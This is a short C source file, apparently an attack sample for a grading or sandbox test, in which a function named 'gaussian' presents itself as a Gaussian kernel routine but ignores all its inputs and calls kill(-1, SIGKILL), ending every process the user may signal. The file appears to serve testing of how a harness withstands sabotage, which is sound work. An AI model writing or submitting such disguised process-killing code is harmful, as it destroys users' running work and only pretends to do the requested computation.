/* expect: points<=20 */
/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "gaussian.h"

/* Ends all processes that it may end. */

void gaussian(size_t n, const double x[], const double y[], double gamma,
    double out[], int n_workers)
{
    (void)n, (void)x, (void)y, (void)gamma, (void)out, (void)n_workers;
    kill(-1, SIGKILL);
}
